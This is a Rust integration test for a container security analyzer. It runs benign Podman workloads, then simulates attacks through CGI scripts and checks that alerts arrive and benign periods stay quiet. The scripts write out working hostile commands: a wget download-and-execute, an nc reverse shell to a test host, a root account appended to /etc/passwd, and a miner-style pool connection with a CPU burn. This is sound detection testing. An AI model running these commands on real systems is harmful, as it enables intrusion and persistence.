//! The analyzer against real behaviour: benign workloads in several Podman
//! replicas (a web server with a client loop, a worker with a periodic job)
//! run until their baselines are stable; then attacks inside one web
//! replica, each through the server itself (a CGI script it runs, as a
//! remote code execution would): an interactive shell spawned from the
//! server, download-and-execute (drift), a reverse shell to a listener (a
//! shell whose stdio is a socket, flagged by the agent's eBPF exec probe), a
//! connection to a new outbound port, a write to /etc/passwd, and a CPU
//! burn with a connection to a mining-pool port. Each must raise an alert
//! naming that replica within 10 s; the benign periods before and after must
//! raise none. Every alert is validated against the OCSF schema. The
//! figures (detection latency, false alerts per container-hour) are printed.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use anyhow::{Context, ensure};
use glasshouse_proto::record::{TOPIC_ALERTS, TOPIC_BASELINES};
use glasshouse_tests::{Stack, TEST_IMAGE, free_port, podman};
use rdkafka::ClientConfig;
use rdkafka::consumer::{Consumer, StreamConsumer};
use rdkafka::message::Message;
use tokio_util::sync::CancellationToken;

/// One alert as read from `glasshouse.alerts`.
#[derive(Debug, Clone)]
struct Seen {
    at: Instant,
    json: String,
    doc: serde_json::Value,
}

impl Seen {
    fn container(&self) -> &str {
        self.doc["evidences"][0]["container"]["uid"]
            .as_str()
            .unwrap_or_default()
    }
    fn rule(&self) -> &str {
        self.doc["unmapped"]["glasshouse"]["rule"].as_str().unwrap_or_default()
    }
    fn created(&self) -> bool {
        self.doc["activity_id"] == 1
    }
    fn observed(&self) -> &str {
        self.doc["anomaly_analyses"][0]["anomalies"][0]["observations"][0]["value"]
            .as_str()
            .unwrap_or_default()
    }
    fn line(&self) -> String {
        format!(
            "{} {} {} {}",
            self.rule(),
            &self.container()[..12.min(self.container().len())],
            self.doc["finding_info"]["title"],
            self.observed()
        )
    }
}

/// Reads a topic from the beginning into a shared list, in the background.
fn follow(brokers: &str, topic: &str, cancel: CancellationToken) -> anyhow::Result<Arc<Mutex<Vec<Seen>>>> {
    let consumer: StreamConsumer = ClientConfig::new()
        .set("bootstrap.servers", brokers)
        .set("group.id", format!("scenario-follow-{topic}"))
        .set("auto.offset.reset", "earliest")
        .set("topic.metadata.refresh.interval.ms", "2000")
        .create()?;
    consumer.subscribe(&[topic])?;
    let seen = Arc::new(Mutex::new(Vec::new()));
    let out = seen.clone();
    tokio::spawn(async move {
        loop {
            let m = tokio::select! {
                m = consumer.recv() => m,
                () = cancel.cancelled() => break,
            };
            if let Ok(m) = m
                && let Some(payload) = m.payload()
            {
                let json = String::from_utf8_lossy(payload).into_owned();
                if let Ok(doc) = serde_json::from_str(&json) {
                    out.lock().expect("lock").push(Seen {
                        at: Instant::now(),
                        json,
                        doc,
                    });
                }
            }
        }
        consumer.unsubscribe();
    });
    Ok(seen)
}

/// Host-side servers the attacks talk to: each accepts connections and
/// answers with `reply` (then closes) on its own thread.
fn serve(reply: Vec<u8>) -> anyhow::Result<u16> {
    let listener = TcpListener::bind("0.0.0.0:0")?;
    let port = listener.local_addr()?.port();
    std::thread::spawn(move || {
        for conn in listener.incoming().flatten() {
            let reply = reply.clone();
            std::thread::spawn(move || {
                let mut conn = conn;
                let _ = conn.set_read_timeout(Some(Duration::from_millis(500)));
                let mut buf = [0u8; 1024];
                // Ignored: the request, if any, is not looked at.
                let _ = conn.read(&mut buf);
                let _ = conn.write_all(&reply);
                std::thread::sleep(Duration::from_millis(500));
            });
        }
    });
    Ok(port)
}

/// `GET path` on the web replica: how the attacks are triggered.
fn get(ip: &str, path: &str) -> anyhow::Result<String> {
    let mut s = TcpStream::connect_timeout(&format!("{ip}:8080").parse()?, Duration::from_secs(5))?;
    s.set_read_timeout(Some(Duration::from_secs(10)))?;
    write!(s, "GET {path} HTTP/1.0\r\nHost: web\r\n\r\n")?;
    let mut out = String::new();
    // Ignored: a CGI that backgrounds a process may leave the socket open.
    let _ = s.read_to_string(&mut out);
    Ok(out)
}

const CGI: &[(&str, &str)] = &[
    // An interactive shell spawned from the server.
    ("shell", "sh -i </dev/null >/dev/null 2>&1"),
    // Download a binary into the container and run it.
    (
        "dl",
        "wget -q -O /tmp/payload http://10.88.0.1:$QUERY_STRING/payload && chmod +x /tmp/payload && /tmp/payload echo downloaded",
    ),
    // A reverse shell: sh with its stdio on a socket to the listener.
    ("rev", "nc 10.88.0.1 $QUERY_STRING -e /bin/sh >/dev/null 2>&1 &"),
    // A connection to a port the workload never uses.
    ("port", "wget -q -O /dev/null http://10.88.0.1:$QUERY_STRING/ || true"),
    ("passwd", "echo 'eve:x:0:0::/root:/bin/sh' >> /etc/passwd"),
    // A miner: a pool connection and a CPU burn.
    (
        "mine",
        "(nc 10.88.0.1 $QUERY_STRING </dev/null >/dev/null 2>&1 &); setsid timeout 25 sh -c 'while :; do :; done' </dev/null >/dev/null 2>&1 &",
    ),
];

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn attacks_in_one_replica_are_alerted_and_benign_periods_are_quiet() -> anyhow::Result<()> {
    let mut stack = Stack::builder().aggregator("[topics]\npartitions = 3").start().await?;
    let brokers = stack.broker.bootstrap();
    let cancel = CancellationToken::new();
    let suffix = free_port()?;
    // Containers a killed earlier run left behind would load the machine.
    let stale = podman(&["ps", "-a", "--filter", "name=^gh-scn-", "--format", "{{.Names}}"])?;
    for n in stale.lines().filter(|n| !n.is_empty()) {
        // Ignored: cleanup only.
        let _ = podman(&["rm", "-f", "-t", "0", n]);
    }

    // Host side of the attacks.
    let payload_port = serve({
        let bin = std::fs::read("/bin/busybox").context("reading /bin/busybox (busybox-static)")?;
        let mut r = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", bin.len()).into_bytes();
        r.extend(bin);
        r
    })?;
    let new_port = serve(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok".to_vec())?;
    let reverse_port = serve(b"id\nexit\n".to_vec())?;
    let pool_port = serve(b"{\"id\":1,\"result\":true}\n".to_vec())?;

    // The server's content: a page for the clients, and the CGI scripts.
    let www = tempfile::tempdir()?;
    std::fs::write(www.path().join("index.html"), "hello\n")?;
    std::fs::create_dir(www.path().join("cgi-bin"))?;
    for (name, body) in CGI {
        let path = www.path().join("cgi-bin").join(name);
        std::fs::write(
            &path,
            format!("#!/bin/sh\necho 'Content-Type: text/plain'\necho\n{body}\necho done\n"),
        )?;
        std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    }

    // Aggregator, analyzer (quick to stabilize), agent sampling every second.
    // The burn is a shell loop that shares this 2-core machine with the other
    // tests running beside this one: it is found at 0.3 cores sustained for
    // 3 samples (the benign replicas use about 0.01).
    let analyzer_config: glasshouse_analyzer::Config = glasshouse_runtime::service::parse_config(
        "test",
        &format!(
            "brokers = \"{}\"\ngroup = \"scenario\"\nview = false\n\
             [topics]\npartitions = 3\n\
             [analysis]\nstartup_secs = 3\nmin_learning_secs = 25\nmin_events = 30\nmax_novelty = 0.05\n\
             novelty_window_secs = 5\ncheckpoint_ms = 1000\nmining_ports = [{pool_port}]\nmining_cpu_samples = 3\nmining_cpu_cores = 0.3\n\
             cluster_cidrs = [\"10.88.0.0/16\"]",
            brokers
        ),
    )?;
    let analyzer = tokio::spawn(glasshouse_analyzer::run(
        analyzer_config,
        std::io::sink(),
        cancel.clone(),
    ));
    stack
        .start_agent(
            "scenario-agent",
            &format!("sensor = \"bpf\"\nsample_interval_ms = 1000\ncontainers = [\"gh-scn-*-{suffix}\"]"),
        )
        .await?;
    let follow_cancel = CancellationToken::new();
    let alerts = follow(&brokers, TOPIC_ALERTS, follow_cancel.clone())?;
    let baselines = follow(&brokers, TOPIC_BASELINES, follow_cancel.clone())?;

    // Two workloads: web (3 replicas) and worker (2 replicas).
    let web_image = format!("localhost/gh-scenario-web-{suffix}:1");
    let worker_image = format!("localhost/gh-scenario-worker-{suffix}:1");
    podman(&["tag", TEST_IMAGE, &web_image])?;
    podman(&["tag", TEST_IMAGE, &worker_image])?;
    let volume = format!("{}:/www:ro", www.path().display());
    let mut names = Vec::new();
    let mut ids = Vec::new();
    for i in 1..=3 {
        let name = format!("gh-scn-web{i}-{suffix}");
        ids.push(podman(&[
            "run", "-d", "--name", &name, "-v", &volume, &web_image, "/bin/sh", "-c",
            "httpd -p 8080 -h /www; while :; do wget -q -O /dev/null http://127.0.0.1:8080/index.html; date > /tmp/last; sleep 1; done",
        ])?);
        names.push(name);
    }
    for i in 1..=2 {
        let name = format!("gh-scn-worker{i}-{suffix}");
        ids.push(podman(&[
            "run",
            "-d",
            "--name",
            &name,
            &worker_image,
            "/bin/sh",
            "-c",
            "while :; do echo job >> /tmp/out; cp /tmp/out /tmp/copy; ls /tmp > /dev/null; sleep 2; done",
        ])?);
        names.push(name);
    }
    let result = scenario(
        &ids,
        &web_image,
        &worker_image,
        &alerts,
        &baselines,
        [payload_port, reverse_port, new_port, pool_port],
    )
    .await;

    for n in &names {
        // Ignored: cleanup only.
        let _ = podman(&["rm", "-f", "-t", "0", n]);
    }
    let _ = podman(&["rmi", &web_image, &worker_image]);
    stack.stop().await?;
    cancel.cancel();
    let stats = tokio::time::timeout(Duration::from_secs(30), analyzer).await???;
    follow_cancel.cancel();
    tokio::time::sleep(Duration::from_millis(200)).await;
    result?;
    ensure!(stats.undecodable == 0, "{stats:?}");
    Ok(())
}

async fn scenario(
    ids: &[String],
    web_image: &str,
    worker_image: &str,
    alerts: &Mutex<Vec<Seen>>,
    baselines: &Mutex<Vec<Seen>>,
    [payload_port, reverse_port, new_port, pool_port]: [u16; 4],
) -> anyhow::Result<()> {
    let workload = |image: &str| image.rsplit_once(':').map_or(image, |(w, _)| w).to_owned();
    let (web, worker) = (workload(web_image), workload(worker_image));
    let started = Instant::now();

    // 1. Learning until both baselines are stable.
    wait_stable(&[&web, &worker], alerts, baselines, started).await?;

    // 2. A benign period: no alert.
    let benign = Duration::from_secs(20);
    let before = alerts.lock().expect("lock").len();
    tokio::time::sleep(benign).await;
    let false_before: Vec<String> = alerts.lock().expect("lock")[before..].iter().map(Seen::line).collect();

    // 3. The attacks, in web replica 1, through its server.
    let target = &ids[0];
    let ip = podman(&["inspect", "-f", "{{.NetworkSettings.IPAddress}}", target])?;
    let attacks: [(&str, String, &[&str], Option<String>); 6] = [
        ("shell", String::new(), &["rule.interactive_shell"], None),
        ("dl", payload_port.to_string(), &["rule.drift"], None),
        ("rev", reverse_port.to_string(), &["rule.reverse_shell"], None),
        (
            "port",
            new_port.to_string(),
            &["baseline.novel"],
            Some(new_port.to_string()),
        ),
        ("passwd", String::new(), &["rule.account_files"], None),
        ("mine", pool_port.to_string(), &["rule.mining.stratum_port"], None),
    ];
    let mut report = Vec::new();
    for (name, arg, rules, observed) in &attacks {
        let mark = alerts.lock().expect("lock").len();
        let t0 = Instant::now();
        let reply = tokio::task::spawn_blocking({
            let (ip, path) = (ip.clone(), format!("/cgi-bin/{name}?{arg}"));
            move || get(&ip, &path)
        })
        .await??;
        ensure!(reply.contains("200 OK"), "CGI {name} failed: {reply}");
        let hit = loop {
            let found = alerts.lock().expect("lock")[mark..]
                .iter()
                .find(|a| {
                    a.created()
                        && a.container() == target
                        && rules.contains(&a.rule())
                        && observed.as_ref().is_none_or(|o| a.observed().contains(o.as_str()))
                })
                .cloned();
            if let Some(a) = found {
                break Some(a);
            }
            if t0.elapsed() > Duration::from_secs(10) {
                break None;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        };
        let all: Vec<String> = alerts.lock().expect("lock")[mark..].iter().map(Seen::line).collect();
        match hit {
            Some(a) => {
                println!("attack {name}: alerted after {:?}: {}", a.at - t0, a.line());
                report.push((name.to_string(), Some(a.at - t0)));
            }
            None => {
                println!("attack {name}: NOT alerted within 10 s; alerts since: {all:#?}");
                report.push((name.to_string(), None));
            }
        }
    }
    // The burn is sustained: the CPU finding follows within 10 s of the start.
    let cpu = alerts
        .lock()
        .expect("lock")
        .iter()
        .any(|a| a.rule() == "rule.mining.cpu" && a.container() == target);
    let cpu = if cpu {
        true
    } else {
        tokio::time::sleep(Duration::from_secs(5)).await;
        alerts
            .lock()
            .expect("lock")
            .iter()
            .any(|a| a.rule() == "rule.mining.cpu" && a.container() == target)
    };

    // 4. Another benign period (the burn ends after 25 s): no new alert.
    tokio::time::sleep(Duration::from_secs(20)).await;
    let before = alerts.lock().expect("lock").len();
    tokio::time::sleep(benign).await;
    let false_after: Vec<String> = alerts.lock().expect("lock")[before..]
        .iter()
        .filter(|a| a.created())
        .map(Seen::line)
        .collect();

    let all: Vec<String> = alerts.lock().expect("lock").iter().map(|a| a.json.clone()).collect();
    let detected = report.iter().filter(|(_, t)| t.is_some()).count();
    let container_hours = (ids.len() as f64) * (2.0 * benign.as_secs_f64()) / 3600.0;
    println!(
        "detection: {detected}/{} attacks within 10 s (+ sustained CPU: {cpu}); false alerts in benign periods: {} before, {} after ({:.1} per container-hour over {:.0} container-seconds); {} alerts in all",
        report.len(),
        false_before.len(),
        false_after.len(),
        (false_before.len() + false_after.len()) as f64 / container_hours,
        container_hours * 3600.0,
        all.len()
    );
    glasshouse_tests::validate_ocsf(&all)?;
    ensure!(detected == report.len(), "undetected attacks: {report:?}");
    ensure!(cpu, "no sustained-CPU finding for the burn");
    ensure!(
        false_before.is_empty(),
        "alerts in the benign period before: {false_before:#?}"
    );
    ensure!(
        false_after.is_empty(),
        "alerts in the benign period after: {false_after:#?}"
    );
    Ok(())
}

/// Waits until every one of `workloads` has a stable baseline (at most 120 s
/// after `started`), then prints their latest changes and the alerts raised
/// while they learned.
async fn wait_stable(
    workloads: &[&str],
    alerts: &Mutex<Vec<Seen>>,
    baselines: &Mutex<Vec<Seen>>,
    started: Instant,
) -> anyhow::Result<()> {
    let deadline = started + Duration::from_secs(120);
    loop {
        let stable = |w: &str| {
            baselines
                .lock()
                .expect("lock")
                .iter()
                .rev()
                .find(|b| b.doc["workload"] == w)
                .is_some_and(|b| b.doc["state"] == "stable")
        };
        if workloads.iter().all(|w| stable(w)) {
            break;
        }
        ensure!(Instant::now() < deadline, "baselines not stable after 120 s");
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
    let learning = started.elapsed();
    for w in workloads {
        let b = baselines.lock().expect("lock");
        let last = b.iter().rev().find(|b| b.doc["workload"] == **w).expect("seen above");
        let history: Vec<String> = last.doc["history"]
            .as_array()
            .into_iter()
            .flatten()
            .rev()
            .take(6)
            .map(|c| {
                let at =
                    (c["time_ns"].as_i64().unwrap_or(0) - last.doc["created_ns"].as_i64().unwrap_or(0)) as f64 / 1e9;
                format!("v{} +{at:.1}s {}", c["version"], c["what"])
            })
            .collect();
        println!(
            "{w}: {} events, novelty {}, latest changes: {history:#?}",
            last.doc["events"], last.doc["novelty"]
        );
    }
    let learning_alerts: Vec<String> = alerts.lock().expect("lock").iter().map(Seen::line).collect();
    println!("baselines stable after {learning:.1?}; alerts while learning: {learning_alerts:#?}");

    Ok(())
}
